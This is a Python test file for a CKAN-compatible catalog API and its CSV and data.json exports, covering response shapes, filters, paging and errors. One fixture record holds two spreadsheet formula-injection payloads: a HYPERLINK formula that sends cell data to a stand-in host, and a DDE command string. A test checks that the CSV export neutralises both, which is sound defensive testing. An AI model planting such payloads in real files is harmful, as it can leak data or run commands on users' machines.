"""The CKAN action API, /data.json and /api/search.csv over a small catalog, on each index backend:
CKAN's envelope and package shape, its filters, sorts and paging, its errors; formula injection."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.ckan.package import MAX_NAME, package_name
from catalog.dcat import catalog_errors
from catalog.vocabulary import RecordStatus
from index.documents import to_document
from pdi.runtime import jurisdiction_lookup
from tests.conftest import reference_dir
from tests.factories import make_record

T0 = datetime(2026, 1, 1, tzinfo=UTC)
ACTION = "/api/3/action"
LONG_REMOTE = "x" * 130  # an id past CKAN's 100-character limit on names


def _records():
    return [
        make_record("s1", "Use of Force Incidents", jurisdiction="seattle-wa", modified=T0, keywords=["police", "uof"]),
        make_record(
            "s2",
            "Officer Involved Shootings",
            jurisdiction="seattle-wa",
            modified=T0 + timedelta(days=1),
            formats=["CSV", "JSON"],
        ),
        make_record(
            "a1",
            "Use of Force 2020",
            jurisdiction="austin-tx",
            source="socrata:data.austintexas.gov",
            modified=T0 + timedelta(days=2),
            keywords=["police", "Public Safety"],
        ),
        make_record(
            "d1",
            '=HYPERLINK("http://evil.invalid/?x="&A1,"Arrests")',
            jurisdiction="dallas-tx",
            source="socrata:www.dallasopendata.com",
            modified=T0 + timedelta(days=3),
            description="+cmd|' /C calc'!A0",
        ),
        make_record(
            LONG_REMOTE,
            "Complaints Against Officers",
            jurisdiction="dallas-tx",
            source="socrata:www.dallasopendata.com",
            modified=T0 + timedelta(days=4),
            formats=["XLSX"],
        ),
    ]


@pytest.fixture
def client(settings, store, any_index, seed):
    records = _records()
    gone = make_record("g1", "Withdrawn Arrests", jurisdiction="dallas-tx", source="socrata:www.dallasopendata.com")
    for r in [*records, gone]:
        store.upsert_record(r, source_url="https://x.invalid", raw_content={}, fetched_at=T0, run_id=None)
    # withdraw g1 the way a harvest does: missed by complete gathers of its source
    for _ in range(2):
        store.settle_source(
            "socrata:www.dallasopendata.com",
            {r.id for r in records if r.pdi.jurisdiction == "dallas-tx"},
            run_id=None,
            withdraw_after=2,
        )
    assert store.get(gone.id).status is RecordStatus.WITHDRAWN
    any_index.upsert(to_document(r, jurisdiction_lookup(seed)) for r in records)
    with TestClient(create_app(settings, store, any_index, seed)) as c:
        c.records = {r.pdi.source.remote_id: r for r in records}
        c.gone = gone
        yield c


def _ok(r):
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["success"] is True and body["help"].startswith("http")
    return body["result"]


def _error(r, status, kind):
    assert r.status_code == status, r.text
    body = r.json()
    assert body["success"] is False and "help" in body
    assert body["error"]["__type"] == kind and body["error"]["message"]
    return body["error"]


def _search(client, **params):
    return _ok(client.get(f"{ACTION}/package_search", params=params))


def _remote_ids(client, packages):
    by_id = {r.id: k for k, r in client.records.items()}
    return [by_id[p["id"]] for p in packages]


# ---- shape ------------------------------------------------------------------------------------


def test_package_show_has_the_shape_of_a_real_ckan_package(client):
    sample = json.loads((reference_dir() / "portal-samples/ckan/demo.ckan.org_package_show_response.json").read_text())
    rec = client.records["s2"]
    pkg = _ok(client.get(f"{ACTION}/package_show", params={"id": rec.id}))
    # every key CKAN answers with, except the ones about CKAN's own users and revisions
    assert set(sample["result"]) - {"creator_user_id", "revision_id", "isopen"} <= set(pkg)
    assert set(sample["result"]["resources"][0]) - {"revision_id"} <= set(pkg["resources"][0])
    assert set(sample["result"]["tags"][0]) <= set(pkg["tags"][0])
    assert pkg["id"] == pkg["name"] == rec.id
    assert pkg["title"] == rec.title and pkg["notes"] == rec.description
    assert pkg["organization"]["name"] == pkg["owner_org"] == "seattle-wa"
    assert pkg["organization"]["title"] == "Seattle, WA"
    assert [t["name"] for t in pkg["tags"]] == ["police"]
    assert [(r["format"], r["url"]) for r in pkg["resources"]] == [
        ("CSV", d.downloadURL) for d in rec.distribution[:1]
    ] + [("JSON", rec.distribution[1].downloadURL)]
    assert [g["name"] for g in pkg["groups"]] == rec.pdi.category_ids
    assert pkg["metadata_modified"] == "2026-01-02T00:00:00"  # UTC without offset, as CKAN writes it
    extras = {e["key"]: e["value"] for e in pkg["extras"]}
    assert extras["identifier"] == rec.identifier and extras["pdi_jurisdictions"] == "seattle-wa"
    assert all(isinstance(e["value"], str) for e in pkg["extras"])
    # the same dict from package_search, POST with a JSON body as ckanapi sends it
    found = _ok(client.post("/api/action/package_search", json={"fq": "tags:police res_format:JSON"}))
    assert found["results"] == [pkg]


def test_package_search_envelope_and_facets(client):
    sample = json.loads(
        (reference_dir() / "portal-samples/ckan/demo.ckan.org_package_search_response_3-results.json").read_text()
    )
    result = _search(client, **{"facet.field": '["organization","groups","tags","res_format"]'})
    assert set(result) == set(sample["result"])
    assert result["count"] == 5 and len(result["results"]) == 5
    assert result["facets"]["organization"] == {"dallas-tx": 2, "seattle-wa": 2, "austin-tx": 1}
    assert result["facets"]["res_format"] == {"CSV": 4, "JSON": 1, "XLSX": 1}
    assert result["facets"]["tags"]["police"] == 5
    items = result["search_facets"]["organization"]["items"]
    assert {"name": "seattle-wa", "display_name": "Seattle, WA", "count": 2} in items
    assert result["search_facets"]["organization"]["title"] == "organization"
    # no facet.field: no facets, as in CKAN
    plain = _search(client)
    assert plain["facets"] == {} and plain["search_facets"] == {}


def test_long_ids_get_short_names_that_package_show_resolves(client):
    rec = client.records[LONG_REMOTE]
    assert len(rec.id) > MAX_NAME
    name = package_name(rec.id)
    assert len(name) == MAX_NAME and name[-9:] == rec.id[-9:]
    pkg = _ok(client.get(f"{ACTION}/package_show", params={"id": name}))
    assert pkg["id"] == rec.id and pkg["name"] == name
    # what `ckanapi dump` sends along with the id is ignored, as CKAN ignores it
    extra = {"id": rec.id, "include_datasets": False, "include_password_hash": True, "include_users": False}
    assert _ok(client.post("/api/action/package_show", json=extra))["name"] == name
    assert name in _ok(client.get(f"{ACTION}/package_list"))


# ---- filters, sorts, paging -----------------------------------------------------------------


FQ_CASES = [
    ("organization:seattle-wa", {"s1", "s2"}),
    ("organization:seattle-wa OR organization:austin-tx", {"s1", "s2", "a1"}),
    ("owner_org:(seattle-wa OR dallas-tx) +tags:uof", {"s1"}),
    ('tags:"Public Safety"', {"a1"}),
    ("groups:use_of_force", {"s1", "a1"}),
    ("res_format:xlsx", {LONG_REMOTE}),
    ("metadata_modified:[2026-01-03T00:00:00Z TO *]", {"a1", "d1", LONG_REMOTE}),
    ("metadata_modified:[2026-01-03 TO NOW] state:active", {"a1", "d1", LONG_REMOTE}),
    ("state:deleted", set()),
    ("*:*", {"s1", "s2", "a1", "d1", LONG_REMOTE}),
]


def test_fq_filters(client):
    for fq, expected in FQ_CASES:
        result = _search(client, fq=fq, rows=100)
        assert set(_remote_ids(client, result["results"])) == expected, fq
        assert result["count"] == len(expected), fq


def test_q_is_text_and_its_fielded_terms_are_filters(client):
    assert set(_remote_ids(client, _search(client, q="use of force")["results"])) == {"s1", "a1"}
    assert set(_remote_ids(client, _search(client, q="force organization:austin-tx")["results"])) == {"a1"}
    assert _search(client, q="*:*")["count"] == 5


def test_sorts_and_start_paging(client):
    newest = _remote_ids(client, _search(client, sort="metadata_modified desc")["results"])
    assert newest == [LONG_REMOTE, "d1", "a1", "s2", "s1"]
    by_name = _search(client, sort="name asc")["results"]
    assert [p["id"] for p in by_name] == sorted(r.id for r in client.records.values())
    ranked = _search(client, q="force", sort="score desc, metadata_modified desc")
    assert ranked["sort"] == "score desc, metadata_modified desc" and ranked["count"] == 2
    pages = [_search(client, sort="id asc", rows=2, start=s)["results"] for s in (0, 2, 4, 6)]
    assert [p["id"] for page in pages for p in page] == [p["id"] for p in by_name]
    assert pages[-1] == []
    assert _search(client, rows=0)["results"] == [] and _search(client, rows=0)["count"] == 5


def test_package_list_and_organizations(client):
    names = _ok(client.get(f"{ACTION}/package_list"))
    assert sorted(names) == names and len(names) == 5
    assert _ok(client.get(f"{ACTION}/package_list", params={"limit": 2, "offset": 1})) == names[1:3]
    orgs = _ok(client.get(f"{ACTION}/organization_list"))
    assert len(orgs) == 53 and "seattle-wa" in orgs
    full = _ok(client.get(f"{ACTION}/organization_list", params={"all_fields": "true", "sort": "package_count desc"}))
    counts = {o["name"]: o["package_count"] for o in full}
    assert counts["seattle-wa"] == 2 and counts["dallas-tx"] == 2 and counts["austin-tx"] == 1
    assert [o["package_count"] for o in full] == sorted(counts.values(), reverse=True)
    org = _ok(client.get(f"{ACTION}/organization_show", params={"id": "austin-tx", "include_datasets": "true"}))
    assert org["package_count"] == 1 and [p["title"] for p in org["packages"]] == ["Use of Force 2020"]
    groups = _ok(client.get(f"{ACTION}/group_list", params={"all_fields": True}))
    assert {g["name"]: g["package_count"] for g in groups}["use_of_force"] == 2
    assert "use of force" in _ok(client.get(f"{ACTION}/group_show", params={"id": "use_of_force"}))["title"].lower()
    assert "fq" in _ok(client.get(f"{ACTION}/help_show", params={"name": "package_search"}))


# ---- errors -----------------------------------------------------------------------------------


def test_ckan_error_envelopes(client):
    err = _error(client.get(f"{ACTION}/package_show", params={"id": "no-such-dataset"}), 404, "Not Found Error")
    assert "no-such-dataset" in err["message"]
    # a withdrawn dataset is not listed, nor shown
    _error(client.get(f"{ACTION}/package_show", params={"id": client.gone.id}), 404, "Not Found Error")
    assert client.gone.id not in _ok(client.get(f"{ACTION}/package_list"))
    _error(client.get(f"{ACTION}/package_show"), 409, "Validation Error")
    err = _error(client.get(f"{ACTION}/package_search", params={"rows": "lots"}), 409, "Validation Error")
    assert err["rows"] == ["Invalid integer"]
    err = _error(client.get(f"{ACTION}/package_search", params={"rows": "-5"}), 409, "Validation Error")
    assert err["rows"] == ["Must be a natural number"]
    for fq in (
        "license_id:cc-by",
        "-organization:seattle-wa",
        "organization:a OR tags:b",
        "tags:a tags:b",
        "tags:pol*",
    ):
        err = _error(client.get(f"{ACTION}/package_search", params={"fq": fq}), 409, "Validation Error")
        assert "fq" in err, fq
    _error(client.get(f"{ACTION}/package_search", params={"sort": "title_string asc"}), 409, "Validation Error")
    _error(client.get(f"{ACTION}/package_search", params={"facet.field": '["license_id"]'}), 409, "Validation Error")
    _error(client.get(f"{ACTION}/package_search", params={"nonsense": "1"}), 409, "Validation Error")
    _error(client.get(f"{ACTION}/package_create"), 400, "Bad Request")
    _error(client.post(f"{ACTION}/package_search", content=b"{not json"), 400, "Bad Request")
    # the rest of the API keeps its own error convention
    r = client.get("/api/search", params={"size": 0})
    assert r.status_code == 422 and "error" in r.json()


def test_an_unavailable_index_is_a_ckan_search_error(settings, store, seed):
    from index.elasticsearch import ElasticsearchIndex

    down = ElasticsearchIndex("http://127.0.0.1:9", alias="nothing-here")
    with TestClient(create_app(settings, store, down, seed)) as c:
        r = c.get(f"{ACTION}/package_search")
        _error(r, 503, "Search Error")
        assert r.headers["Retry-After"]
        assert c.get("/data.json").status_code == 503
        assert c.get("/api/search.csv").status_code == 503
    down.close()


# ---- exports ----------------------------------------------------------------------------------


def test_data_json_lists_active_datasets_as_valid_dcat_us(client):
    catalog = client.get("/data.json").json()
    assert catalog_errors(catalog) == []
    assert {d["pdi"]["id"] for d in catalog["dataset"]} == {r.id for r in client.records.values()}
    sub = client.get("/data.json", params={"jurisdiction": "seattle-wa", "category": "use_of_force"}).json()
    assert catalog_errors(sub) == [] and [d["title"] for d in sub["dataset"]] == ["Use of Force Incidents"]
    none = client.get("/data.json", params={"jurisdiction": "austin-tx", "category": "complaints"}).json()
    assert none["dataset"] == [] and none["conformsTo"]
    r = client.get("/data.json", params={"jurisdiction": "gotham-nj"})
    assert r.status_code == 400 and "gotham-nj" in r.json()["error"]


def test_csv_export_round_trips_and_neutralises_formulas(client):
    r = client.get("/api/search.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 5
    by_id = {row["id"]: row for row in rows}
    evil = by_id[client.records["d1"].id]
    assert evil["title"] == "'" + client.records["d1"].title  # shown as text, not run
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    s1 = by_id[client.records["s1"].id]
    assert s1["jurisdiction"] == "seattle-wa" and s1["states"] == "WA" and s1["categories"] == "use_of_force"
    assert s1["source_url"] == client.records["s1"].pdi.source.source_url and s1["freshness"]
    # the same parameters and order as /api/search
    params = {"q": "use of force", "sort": "modified"}
    rows = list(csv.DictReader(io.StringIO(client.get("/api/search.csv", params=params).text)))
    assert [row["id"] for row in rows] == [x["id"] for x in client.get("/api/search", params=params).json()["results"]]
    assert client.get("/api/search.csv", params={"state": "Texas"}).status_code == 400


def test_openapi_documents_the_ckan_actions_and_exports(client):
    spec = client.get("/openapi.json").json()
    for name in ("package_search", "package_show", "package_list", "organization_list"):
        op = spec["paths"][f"/api/3/action/{name}"]
        assert op["get"]["description"] and op["post"]["description"]
    assert {p["name"] for p in spec["paths"]["/api/3/action/package_search"]["get"]["parameters"]} >= {
        "q",
        "fq",
        "rows",
        "start",
        "sort",
        "facet.field",
    }
    for path in ("/data.json", "/api/search.csv"):
        op = spec["paths"][path]["get"]
        assert op["description"] and {p["name"] for p in op["parameters"]} >= {"q", "jurisdiction", "category"}
    assert "'" in spec["paths"]["/api/search.csv"]["get"]["description"]  # the formula neutralising is documented
